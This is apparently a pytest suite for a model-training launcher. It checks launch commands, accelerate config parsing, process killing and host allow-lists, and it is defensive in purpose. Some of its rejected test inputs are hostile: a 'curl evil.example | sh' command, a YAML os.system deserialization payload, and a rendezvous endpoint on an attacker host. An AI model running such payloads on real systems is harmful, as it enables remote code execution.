"""What is started: one process, several CPU ranks, or what an accelerate file says."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.fake_engine import FakeEngine
from tests.helpers.served_runs import HANGS_AFTER_SECONDS
from trainer_engine.config.options import TrainingOptions
from trainer_engine.config.parse import parse_options
from trainer_engine.contract.run import RunFolder
from training.engine import process
from training.engine.accelerate_file import AccelerateFile, UnreadableAccelerateConfig
from training.engine.command_line import ACCELERATE_FILE, launch_command, process_count, visible_gpus
from training.engine.machines import MachineRule, Machines, wrong_machines

FAKE = Path(__file__).resolve().parents[2] / "helpers" / "fake_engine.py"
RUN = Path("/runs/one")


def options(**values: Any) -> TrainingOptions:
    usual = {"model_family": "pixart_sigma", "model_type": "full", "data_backend_config": "d.json", "output_dir": "o", "max_train_steps": 5}
    return parse_options({**usual, "num_train_epochs": 0, **values})


def command(chosen: TrainingOptions, variables: dict[str, str]) -> tuple[list[str], dict[str, str]]:
    spread = chosen.distributed
    return launch_command(RUN, spread.num_processes, AccelerateFile.of(spread.accelerate_config), variables, Machines.of(spread))


def accelerate_file(folder: Path, **values: Any) -> str:
    path = folder / "accelerate.yaml"
    path.write_text("\n".join(f"{name}: {value}" for name, value in {"compute_environment": "LOCAL_MACHINE", **values}.items()))
    return str(path)


def test_one_process_is_started_as_it_is() -> None:
    argv, extra = command(options(), {})
    assert argv == [sys.executable, "-m", "trainer_engine", str(RUN)]
    assert "ACCELERATE_USE_CPU" not in extra and (Path(extra["PYTHONPATH"].split(os.pathsep)[0]) / "trainer_engine").is_dir()


def test_several_ranks_on_a_cpu_are_torchruns() -> None:
    argv, extra = command(options(num_processes=2), {"CUDA_VISIBLE_DEVICES": ""})
    assert argv[1:3] == ["-m", "torch.distributed.run"] and argv[argv.index("--nproc_per_node") + 1] == "2"
    assert argv[-3:] == ["-m", "trainer_engine", str(RUN)] and extra["ACCELERATE_USE_CPU"] == "true"


def test_several_gpus_are_accelerates() -> None:
    argv, extra = command(options(num_processes=2), {"CUDA_VISIBLE_DEVICES": "0,3"})
    assert argv[1:3] == ["-m", "accelerate.commands.launch"] and "--multi_gpu" in argv
    assert "ACCELERATE_USE_CPU" not in extra


SECOND = {"num_machines": 3, "machine_rank": 1, "main_process_ip": "10.0.0.1", "main_process_port": 29600}


def test_each_machine_of_several_starts_its_own_ranks() -> None:
    argv, _ = command(options(num_processes=2, **SECOND), {"CUDA_VISIBLE_DEVICES": ""})
    for name, value in {"--nnodes": "3", "--node_rank": "1", "--master_addr": "10.0.0.1", "--master_port": "29600"}.items():
        assert argv[argv.index(name) + 1] == value
    assert argv[argv.index("--nproc_per_node") + 1] == "2" and "--standalone" not in argv
    assert process_count(options(num_processes=2, **SECOND)) == 6


def test_several_machines_with_gpus_are_accelerates() -> None:
    argv, _ = command(options(num_processes=2, **SECOND), {"CUDA_VISIBLE_DEVICES": "0,1"})
    expected = {"--num_processes": "6", "--num_machines": "3", "--machine_rank": "1", "--main_process_ip": "10.0.0.1"}
    for name, value in {**expected, "--main_process_port": "29600"}.items():
        assert argv[argv.index(name) + 1] == value


def test_one_process_on_each_of_several_machines_is_still_distributed() -> None:
    assert "torch.distributed.run" in command(options(**SECOND), {"CUDA_VISIBLE_DEVICES": ""})[0]


def test_the_accelerate_file_says_how_many_share_a_step(tmp_path: Path) -> None:
    assert process_count(options(num_processes=3)) == 3
    assert process_count(options(num_processes=3, accelerate_config=accelerate_file(tmp_path, num_processes=4))) == 4
    assert process_count(options(num_processes=3, accelerate_config=str(tmp_path / "none.yaml"))) == 3


def test_an_accelerate_file_is_handed_to_accelerate(tmp_path: Path) -> None:
    path = accelerate_file(tmp_path, distributed_type="MULTI_GPU", num_processes=8, num_machines=2, machine_rank=1)
    argv, _ = command(options(accelerate_config=path), {})
    assert argv[argv.index("--config_file") + 1] == str(RUN / ACCELERATE_FILE) and argv[-1] == str(RUN)


def test_an_accelerate_file_for_several_cpu_ranks_becomes_torchrun(tmp_path: Path) -> None:
    path = accelerate_file(tmp_path, use_cpu="true", num_processes=2)
    argv, extra = command(options(accelerate_config=path), {})
    assert "torch.distributed.run" in argv and extra["ACCELERATE_USE_CPU"] == "true"
    hosts = accelerate_file(
        tmp_path, use_cpu="true", num_processes=4, num_machines=2, machine_rank=1, main_process_ip="10.0.0.1", main_process_port=29600
    )
    argv, _ = command(options(accelerate_config=hosts), {})
    for name, value in {"--nnodes": "2", "--node_rank": "1", "--master_addr": "10.0.0.1", "--nproc_per_node": "2"}.items():
        assert argv[argv.index(name) + 1] == value
    alone = accelerate_file(tmp_path, use_cpu="true", num_processes=1)
    assert command(options(accelerate_config=alone), {})[0] == [sys.executable, "-m", "trainer_engine", str(RUN)]


@pytest.mark.parametrize("content", ["[1, 2]", "a: [", "num_processes: many", "num_processes: -1", "num_processes: true"])
def test_a_file_that_is_none_is_refused_with_the_reason(tmp_path: Path, content: str) -> None:
    path = tmp_path / "accelerate.yaml"
    path.write_text(content)
    with pytest.raises(UnreadableAccelerateConfig, match="accelerate.yaml"):
        AccelerateFile.read(path)
    with pytest.raises(UnreadableAccelerateConfig):
        AccelerateFile.read(tmp_path / "none.yaml")


KEY = "npm_averysecretkey"


@pytest.mark.parametrize(
    "content",
    [
        f"num_processes: {KEY}",
        f"num_processes: [{KEY}]",
        f"main_process_ip: '{KEY} and more'",
        f"main_process_ip: {{{KEY}: 1}}",
        f"git clone https://user:{KEY}@host\n- a: b: {KEY}",
        f"//registry.npmjs.org/:_authToken={KEY}",
        f"%{KEY}",
        f"!!python/object/apply:os.system [{KEY}]",
        f"when: 2001-99-99\n{KEY}: 1",
        "num_processes: &a 2",
        "a: &a [x]\nnum_processes: *a",
        "[" * 60_000,
        "num_processes: " + "9" * 5_000,
        "num_processes: 70000",
        "x" * 70_000,
    ],
)
def test_an_accelerate_file_is_refused_without_a_word_of_it(tmp_path: Path, content: str) -> None:
    path = tmp_path / "accelerate.yaml"
    path.write_text(content)
    with pytest.raises(UnreadableAccelerateConfig, match="accelerate.yaml") as caught:
        AccelerateFile.read(path)
    assert KEY not in str(caught.value) and len(str(caught.value)) < 300


def test_a_pipe_in_place_of_an_accelerate_file_blocks_nothing(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "accelerate.yaml")
    with pytest.raises(UnreadableAccelerateConfig, match="not a file"):
        AccelerateFile.read(tmp_path / "accelerate.yaml")


def test_gpus_are_counted_without_torch(tmp_path: Path) -> None:
    for listed, count in {"": 0, "-1": 0, "0": 1, "0, 2": 2, "1,-1,2": 1, "GPU-1,GPU-2": 2}.items():
        assert visible_gpus({"CUDA_VISIBLE_DEVICES": listed}) == count
    assert visible_gpus({}, tmp_path) == 0
    for name in ("nvidia0", "nvidia1", "nvidiactl", "nvidia-uvm"):
        (tmp_path / name).touch()
    assert visible_gpus({}, tmp_path) == 2


def test_only_what_is_listed_reaches_an_engine() -> None:
    variables = {"PATH": "/bin", "HF_TOKEN": "t", "CUDA_VISIBLE_DEVICES": "0", "OMP_NUM_THREADS": "1", "MASTER_PORT": "1"}
    secrets = {"DJANGO_SETTINGS_MODULE": "x", "SIMPLETUNER_SECRET_KEY": "s", "DATABASE_URL": "d", "AWS_SECRET_ACCESS_KEY": "a"}
    assert process.passed_environment({**variables, **secrets}) == variables


def start(folder: RunFolder, behaviour: str = "completes", steps: int = 10_000) -> process.EngineIdentity:
    return process.start(folder.create(), [sys.executable, str(FAKE), "trainer_engine", str(folder.path), behaviour, str(steps)])


def test_a_process_is_not_taken_for_another_and_a_zombie_is_dead(tmp_path: Path) -> None:
    folder = RunFolder(tmp_path / "run")
    identity = start(folder)
    assert process.is_alive(identity)
    assert os.getsid(identity.pid) == identity.pid != os.getsid(0)
    other = process.EngineIdentity(identity.pid, identity.started_at + 1, identity.boot_id)
    rebooted = process.EngineIdentity(identity.pid, identity.started_at, "another boot")
    assert not process.is_alive(other) and not process.is_alive(rebooted)
    os.kill(identity.pid, 9)
    deadline = time.monotonic() + 5
    while process.is_alive(identity) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not process.is_alive(identity)
    assert process.exit_status(identity) == -9
    process.reap_children()
    assert not Path(f"/proc/{identity.pid}").exists()


def test_everything_of_a_run_is_killed_and_nothing_else(tmp_path: Path) -> None:
    mine, other = RunFolder(tmp_path / "mine"), RunFolder(tmp_path / "mine too")
    first, second = start(mine, "deaf"), start(other, "deaf")
    # A rank in a session of its own, as torchrun starts them.
    rank = subprocess.Popen([sys.executable, str(FAKE), "trainer_engine", str(mine.path), "deaf", "10000"], start_new_session=True)
    bystander = subprocess.Popen(["sleep", "60"])
    time.sleep(0.3)
    process.kill(first, mine)
    assert rank.wait(5) == -9
    assert process.wait_until_gone(first, mine, seconds=5)
    assert process.is_alive(second) and bystander.poll() is None
    process.kill(second, other)
    bystander.kill()
    bystander.wait()
    assert process.wait_until_gone(second, other, seconds=5)


def test_the_launcher_is_spared_while_its_ranks_are_asked_to_end(tmp_path: Path) -> None:
    folder = RunFolder(tmp_path / "run")
    launcher = start(folder)
    rank = subprocess.Popen([sys.executable, str(FAKE), "trainer_engine", str(folder.path), "completes", "10000"])
    deadline = time.monotonic() + HANGS_AFTER_SECONDS
    while folder.journal.exists() is False or folder.journal.read_bytes().count(b"training.progress") < 20:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    time.sleep(0.5)
    process.ask_to_end(launcher, folder)
    assert rank.wait(HANGS_AFTER_SECONDS) == 10
    assert process.is_alive(launcher)
    process.kill(launcher, folder)
    assert process.wait_until_gone(launcher, folder, seconds=HANGS_AFTER_SECONDS)


def test_the_fake_engine_speaks_the_contract(tmp_path: Path) -> None:
    folder = RunFolder(tmp_path).create()
    assert FakeEngine(folder, "completes", 2, 0.0).run() == 0
    assert folder.exit_file.exists()


@pytest.mark.parametrize(
    ("values", "word"),
    [
        ({"rdzv_backend": "c10d"}, "rdzv_backend must be static"),
        ({"rdzv_backend": "etcd-v2"}, "rdzv_backend must be static"),
        ({"compute_environment": "AMAZON_SAGEMAKER"}, "compute_environment must be LOCAL_MACHINE"),
        ({"distributed_type": "DEEPSPEED"}, "distributed_type must be"),
        ({"distributed_type": "[NO]"}, "distributed_type must be"),
        ({"deepspeed_config": "{deepspeed_multinode_launcher: pdsh, deepspeed_hostfile: /tmp/hosts}"}, "deepspeed_config is not taken"),
        ({"mpirun_config": "{mpirun_hostfile: /tmp/hosts}"}, "mpirun_config is not taken"),
        ({"commands": "['curl evil.example | sh']"}, "commands is not taken"),
        ({"command_file": "/tmp/a.sh"}, "command_file is not taken"),
        ({"tpu_use_cluster": "true"}, "tpu_use_cluster is not taken"),
        ({"main_training_function": "evil"}, "main_training_function must be main"),
        ({"rdzv_endpoint": "evil.example:1"}, "a key that accelerate does not know"),
        ({"--rdzv_backend": "c10d"}, "a key that accelerate does not know"),
        ({"1": "2"}, "a key that accelerate does not know"),
    ],
)
def test_an_accelerate_file_smuggles_nothing_into_the_launch(tmp_path: Path, values: dict[str, str], word: str) -> None:
    with pytest.raises(UnreadableAccelerateConfig, match=word) as caught:
        AccelerateFile.read(Path(accelerate_file(tmp_path, **values)))
    assert "evil" not in str(caught.value)


def test_what_accelerate_writes_itself_is_taken(tmp_path: Path) -> None:
    """The whole output of ``accelerate config`` for two GPUs."""
    written = {
        "debug": "false",
        "distributed_type": "MULTI_GPU",
        "downcast_bf16": "'no'",
        "enable_cpu_affinity": "false",
        "gpu_ids": "all",
        "machine_rank": 0,
        "main_training_function": "main",
        "mixed_precision": "bf16",
        "num_machines": 1,
        "num_processes": 2,
        "rdzv_backend": "static",
        "same_network": "true",
        "tpu_env": "[]",
        "tpu_use_cluster": "false",
        "tpu_use_sudo": "false",
        "use_cpu": "false",
    }
    found = AccelerateFile.read(Path(accelerate_file(tmp_path, **written)))
    assert (found.processes, found.machines.count, found.document["mixed_precision"]) == (2, 1, "bf16")


@pytest.mark.parametrize(
    ("host", "allowed", "expected"),
    [
        ("10.0.0.7", ("10.0.0.0/24",), True),
        ("10.0.1.7", ("10.0.0.0/24",), False),
        ("10.0.0.7", ("10.0.0.7",), True),
        ("fd00::7", ("fd00::/8",), True),
        ("fd00::7", ("10.0.0.0/24",), False),
        ("Trainer-1.", ("trainer-1",), True),
        ("trainer-1.evil.example", ("trainer-1",), False),
        ("10.0.0.7", (), False),
        ("127.0.0.1", (), False),
        ("0x0a000007", ("10.0.0.0/24",), False),
    ],
)
def test_machine_0_is_one_that_the_operator_lists(host: str, allowed: tuple[str, ...], expected: bool) -> None:
    rule = MachineRule(allowed)
    assert (rule.refusal(Machines(2, 1, host)) == "") is expected
    assert rule.refusal(Machines(1, 0, host)) == "" and MachineRule(is_open=True).refusal(Machines(2, 1, host)) == ""


def test_entries_of_the_list_are_names_addresses_or_networks() -> None:
    assert wrong_machines(["10.0.0.0/24", "fd00::1", "trainer-1.example"]) == []
    assert wrong_machines(["10.0.0.0/99", "a b", "*", ".", "http://x"]) == ["10.0.0.0/99", "a b", "*", ".", "http://x"]
